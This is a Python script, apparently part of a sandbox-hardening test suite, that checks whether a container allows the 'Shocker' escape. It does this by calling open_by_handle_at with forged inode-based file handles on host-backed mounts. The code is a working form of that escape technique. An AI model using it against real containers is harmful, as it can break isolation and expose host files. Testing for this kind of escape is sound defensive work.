"""Shocker: open files on host-backed filesystems (/dev/null's devtmpfs, /, /proc, /sys) from forged file handles with open_by_handle_at."""
import ctypes
import errno
import os

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

import struct  # noqa: E402

SYS_open_by_handle_at = 304
# Without CAP_DAC_READ_SEARCH the kernel refuses with EPERM before decoding
# the handle.  ESTALE/EINVAL/ENOENT mean the handle was decoded: the caller
# could brute-force real handles (the shocker exploit), so they count.
REFUSED = (errno.EPERM, errno.ENOSYS, errno.EACCES)


def handle(htype, payload):
    return ctypes.create_string_buffer(struct.pack("Ii", len(payload), htype) + payload)


def main():
    mounts = []
    for path in ("/dev/null", "/", "/proc", "/sys", "/dev/shm", "/dev"):
        try:
            mounts.append((os.open(path, os.O_RDONLY | os.O_NONBLOCK), path))
        except OSError:
            pass
    handles = []
    for ino in (1, 2, 3, 11, 128):
        for gen in (0, 1):
            handles.append(("ino32 %d gen %d" % (ino, gen), handle(1, struct.pack("II", ino, gen))))
            handles.append(("shmem %d gen %d" % (ino, gen), handle(1, struct.pack("III", gen, ino, 0))))
            handles.append(("ino64 %d" % ino, handle(0x81, struct.pack("QI", ino, gen))))
    outcomes = {}
    for mfd, mpath in mounts:
        for hname, h in handles:
            r, e = sysc(SYS_open_by_handle_at, mfd, h, os.O_RDONLY)
            if r >= 0:
                try:
                    what = os.readlink("/proc/self/fd/%d" % r)
                except OSError:
                    what = "?"
                ESCAPES.append("open_by_handle_at(%s, %s) opened %s" % (mpath, hname, what))
                os.close(r)
                continue
            if e not in REFUSED:
                ESCAPES.append("open_by_handle_at(%s, %s) decoded the forged handle (%s): brute force possible"
                               % (mpath, hname, en(e)))
                break
            outcomes[en(e)] = outcomes.get(en(e), 0) + 1
    NOTES.append("open_by_handle_at refused: %s" % ", ".join("%s x%d" % kv for kv in outcomes.items()))


if __name__ == "__main__":
    finish(main)
